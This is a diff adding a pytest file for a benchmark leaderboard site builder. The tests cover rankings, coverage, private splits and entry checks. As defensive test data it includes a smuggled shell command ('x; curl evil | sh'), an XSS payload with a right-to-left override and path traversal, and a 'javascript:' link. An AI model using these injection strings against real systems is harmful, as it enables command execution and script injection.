@@ -1,0 +1,264 @@
+"""`factscope leaderboard`: what the site says, and what never gets into it."""
+
+from __future__ import annotations
+
+import json
+import re
+import shlex
+from html import unescape
+from pathlib import Path
+
+import pytest
+from typer.testing import CliRunner, Result
+
+from factscope.benchmarks.leaderboard import Board, gather, write_site
+from factscope.benchmarks.leaderboard.board import standings
+from factscope.benchmarks.leaderboard.hub_results import Task, eval_results
+from factscope.cli import app
+from factscope.core.errors import InputError, StoreError, UsageError
+from tests.benchmarks.leaderboard.example_results import RUN, SECRET, entry, result, stored, written
+
+
+def boards(*files: Path, public: tuple[str, ...] = ("open",), totals_only: tuple[str, ...] = ()) -> tuple[Board, ...]:
+    ids = [f"{name}-{n}/good" for n in range(20) for name in ("seen", SECRET)]
+    kept = stored(*ids)
+    found, _ = gather(files, [], public=public, totals_only=totals_only, find=lambda run: kept if run == RUN else None)
+    return found
+
+
+def everything(folder: Path) -> str:
+    """All that is in the site: names of files and their texts."""
+    return "\n".join(f"{path}\n{path.read_text(encoding='utf-8')}" for path in folder.rglob("*") if path.is_file())
+
+
+def build(*arguments: str | Path) -> Result:
+    return CliRunner().invoke(app, ["leaderboard", "build", *map(str, arguments)])
+
+
+@pytest.fixture
+def both(tmp_path: Path) -> Path:
+    return written(tmp_path / "both.json", result(good=20, bad=2))
+
+
+def test_a_row_says_how_sure_it_is(both: Path) -> None:
+    (board,) = boards(both)
+    good, bad = board.rows
+    assert (good.name, bad.name) == ("good", "bad")
+    assert good.coverage == pytest.approx(39 / 40)
+    assert good.figures[0].value == pytest.approx((1 + 1 + 0.9 + 0.9) / 4)
+    assert good.figures[0].low is not None
+    assert [(row.standing.best, row.standing.worst) for row in board.rows] == [(1, 1), (2, 2)]
+    assert good.date == "2026-11-02T10:00:00"
+    assert "judges=x/one:json+x/two:json" in good.signature
+    assert "--model good" in good.command
+
+
+@pytest.mark.parametrize(
+    ("made", "date"),
+    [("2026-11-21T20:00:00Z", "2026-11-21T20:00:00+00:00"), ("<b>soon</b>", None), (None, None)],
+)
+def test_a_row_whose_run_is_not_kept_has_the_date_of_its_file(
+    tmp_path: Path, made: str | None, date: str | None
+) -> None:
+    values = result(good=20) | {"run": "none-that-is-kept", "made": made}
+    (board,) = boards(written(tmp_path / "one.json", values))
+    assert board.rows[0].date == date
+
+
+def test_checkers_whose_predictions_were_given_have_the_date_of_their_file(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1795291200")
+    examples = Path(__file__).parents[3] / "examples"
+    words = ["meta", str(examples / "labelled.jsonl"), "--predictions", str(examples / "predictions.jsonl"), "-q"]
+    path = tmp_path / "meta.json"
+    done = CliRunner().invoke(app, [*words, "--resamples", "50", "-f", "json", "-o", str(path)])
+    assert done.exit_code == 0, done.stderr
+    (board,) = boards(path)
+    assert board.rows[0].date == "2026-11-21T20:00:00+00:00"
+    foreign = json.loads(path.read_text(encoding="utf-8")) | {"dataset": "x; curl evil | sh"}
+    (board,) = boards(written(tmp_path / "foreign.json", foreign))
+    command = board.rows[0].command  # a person may paste it
+    assert shlex.split(command)[:3] == ["factscope", "meta", "x; curl evil | sh"]
+
+
+def test_nothing_of_a_private_row_leaves(both: Path, tmp_path: Path) -> None:
+    site = tmp_path / "site"
+    write_site(boards(both), site)
+    shown = everything(site)
+    assert SECRET not in shown
+    assert "blind (10)" in shown
+    assert "x/one, blind" in shown  # its totals are there
+    assert "Asked in seen-0/good" in shown
+    assert (site / "facts-grounding/good/10.html").is_file()
+    assert not (site / "facts-grounding/good/11.html").exists()
+
+
+def test_a_split_may_be_made_public_and_a_file_private(both: Path, tmp_path: Path) -> None:
+    write_site(boards(both, public=("open", "blind")), tmp_path / "all")
+    assert SECRET in everything(tmp_path / "all")
+    write_site(boards(both, totals_only=(str(both),)), tmp_path / "none")
+    shown = everything(tmp_path / "none")
+    assert "seen-0" not in shown
+    assert SECRET not in shown
+
+
+def test_what_is_to_be_hidden_is_however_it_is_named(
+    both: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    common = ["--store", "runs.db", "--totals-only"]
+    assert build("both.json", "-o", "site", *common, "./both.json").exit_code == 0
+    assert build(entry(tmp_path), "-o", "other", *common, tmp_path / "acme.toml").exit_code == 0
+    assert "seen-0" not in everything(tmp_path / "site") + everything(tmp_path / "other")
+    done = build("both.json", "-o", "third", *common, "bothh.json")
+    assert (done.exit_code, "none of the runs given" in done.stderr) == (2, True)
+    assert not (tmp_path / "third").exists()
+
+
+def test_a_site_that_can_not_be_put_in_place_leaves_the_old_one(
+    both: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    site = tmp_path / "site"
+    write_site(boards(both), site)
+    before, real = everything(site), Path.rename
+
+    def rename(self: Path, target: Path) -> Path:
+        if self.name == "site" and self != site:
+            raise OSError(28, "No space left on device")
+        return real(self, target)
+
+    monkeypatch.setattr(Path, "rename", rename)
+    with pytest.raises(StoreError, match="can't be written: no space left"):
+        write_site(boards(both), site)
+    assert everything(site) == before
+
+
+def test_no_line_ends_between_a_number_and_its_percent_sign(both: Path, tmp_path: Path) -> None:
+    site = tmp_path / "site"
+    write_site(boards(both), site)
+    pages = [site / "index.html", *site.glob("*/about.html"), *site.glob("*/good.html")]
+    shown = unescape("\n".join(page.read_text(encoding="utf-8") for page in pages))
+    assert "95\u00a0% interval" in shown
+    assert re.findall(r".{0,30}\d %.{0,30}", shown) == []
+
+
+def test_an_earlier_build_leaves_nothing_behind(both: Path, tmp_path: Path) -> None:
+    write_site(boards(both, public=("open", "blind")), tmp_path / "site")
+    write_site(boards(both), tmp_path / "site")
+    assert SECRET not in everything(tmp_path / "site")
+    assert [path.name for path in tmp_path.iterdir() if path.name.startswith(".")] == []
+
+
+def test_a_folder_with_something_else_is_left_alone(both: Path, tmp_path: Path) -> None:
+    with pytest.raises(UsageError, match="something else"):
+        write_site(boards(both), tmp_path)
+    assert both.is_file()
+
+
+def test_a_row_without_coverage_is_refused(tmp_path: Path) -> None:
+    values = result(good=20, bad=2)
+    for one in values["verdicts"]:
+        if one["model"] == "bad":
+            one["accurate"] = [None, one["accurate"][1]]
+    done = build(written(tmp_path / "a.json", values), "-o", tmp_path / "site", "--store", tmp_path / "runs.db")
+    assert done.exit_code == 1
+    assert "bad has no coverage" in done.stderr
+    assert "good" in everything(tmp_path / "site")
+    assert ">bad<" not in everything(tmp_path / "site")
+
+
+def test_outside_text_is_escaped_and_links_are_safe(tmp_path: Path) -> None:
+    evil = "<img src=x onerror=alert(1)>\u202e../../up"
+    path = written(tmp_path / "a.json", json.loads(json.dumps(result(evil=10)).replace('"evil"', json.dumps(evil))))
+    write_site(boards(path), tmp_path / "site")
+    shown = everything(tmp_path / "site")
+    assert "<img" not in shown
+    assert "\u202e" not in shown
+    assert {path.parent.name for path in (tmp_path / "site").rglob("img*.html")} == {"facts-grounding"}
+
+
+def test_pages_ask_for_nothing_and_run_only_our_script(both: Path, tmp_path: Path) -> None:
+    write_site(boards(both), tmp_path / "site")
+    for path in (tmp_path / "site").rglob("*.html"):
+        page = unescape(path.read_text(encoding="utf-8"))
+        assert "default-src 'none'" in page
+        assert not re.search(r'(?:src|href)="(?:https?:|//)', page)
+        for target in re.findall(r'href="([^"#]+)', page):
+            assert (path.parent / target).is_file(), f"{path}: {target}"
+
+
+def test_the_hub_gets_public_examples_alone(both: Path) -> None:
+    (board,) = boards(both)
+    text = eval_results(board, board.rows[0], Task("google/FACTS-grounding-public", "facts", "main")) or ""
+    assert text.startswith('- dataset:\n    id: "google/FACTS-grounding-public"\n    task_id: "facts"\n')
+    assert '    revision: "main"\n  value: 100.00\n  date: "2026-11-02"\n  notes: "FACTS Grounding' in text
+    (hidden,) = boards(both, public=())
+    assert eval_results(hidden, hidden.rows[0], Task("a/b", "c")) is None
+
+
+def test_files_for_the_hub_are_written_when_asked_for(both: Path, tmp_path: Path) -> None:
+    common: list[str | Path] = [both, "-o", tmp_path / "site", "--store", tmp_path / "runs.db", "--hub"]
+    assert build(*common, "a/b:c@main").exit_code == 0
+    assert 'task_id: "c"' in (tmp_path / "site/facts-grounding/good.eval_results.yaml").read_text(encoding="utf-8")
+    assert build(*common, "a/b").exit_code == 2
+
+
+def test_an_entry_that_is_true_passes_and_is_shown(tmp_path: Path) -> None:
+    path = entry(tmp_path)
+    done = CliRunner().invoke(app, ["leaderboard", "check", str(path)])
+    assert (done.exit_code, done.stderr) == (0, "")
+    assert "acme/a, 0.6944, coverage 0.9750: fine" in done.stdout
+    (board,) = boards(path)
+    assert (board.rows[0].date, board.rows[0].link) == ("2026-11-01", "https://example.org/a")
+    assert "--data mine.csv" in board.rows[0].command
+
+
+@pytest.mark.parametrize(
+    ("change", "message"),
+    [
+        ({"coverage": None}, "coverage: field required"),
+        ({"coverage": 0.5}, "coverage is 0.5, and 0.9750"),
+        ({"score": 0.9}, "score is 0.9, and 0.6944"),
+        ({"model": "acme/b"}, "no answers of acme/b"),
+        ({"date": "soon"}, "date:"),
+        ({"sha256": "0"}, "another SHA-256"),
+        ({"result": "../acme.json"}, "not beside it"),
+        ({"result": "none.json"}, "no result none.json"),
+        ({"link": "javascript:alert(1)"}, "link:"),
+        ({"wrong": 1}, "wrong: extra inputs"),
+    ],
+)
+def test_an_entry_that_is_not_is_refused(tmp_path: Path, change: dict[str, object], message: str) -> None:
+    good = tmp_path / "good"
+    good.mkdir()
+    done = CliRunner().invoke(app, ["leaderboard", "check", str(entry(tmp_path, **change)), str(entry(good))])
+    assert done.exit_code == 1
+    assert message in done.stderr
+    assert "good/acme.toml" in done.stdout  # the others are checked all the same
+
+
+def test_an_entry_brings_no_other_model_along(tmp_path: Path) -> None:
+    with pytest.raises(InputError, match="other models too"):
+        boards(entry(tmp_path, "better"))
+
+
+def test_files_that_are_none_of_ours(tmp_path: Path) -> None:
+    with pytest.raises(InputError, match="no result that"):
+        boards(written(tmp_path / "a.json", {"a": 1}))
+    (tmp_path / "b.json").write_text("{", encoding="utf-8")
+    with pytest.raises(InputError, match="not JSON") as told:
+        boards(tmp_path / "b.json")
+    assert "the id of a kept run" in told.value.hint
+    with pytest.raises(UsageError, match="can't be read"):
+        boards(tmp_path / "c.json")
+
+
+def test_ranks_are_shared_and_range_over_what_no_test_tells_apart() -> None:
+    found = standings({"a": 0.9, "b": 0.5, "c": 0.5, "d": None}, [("a", "d"), ("b", "d")])
+    assert {name: (one.rank, one.tied, one.best, one.worst) for name, one in found.items()} == {
+        "a": (1, False, 1, 3),
+        "b": (2, True, 1, 3),
+        "c": (2, True, 1, 4),
+        "d": (4, False, 3, 4),
+    }
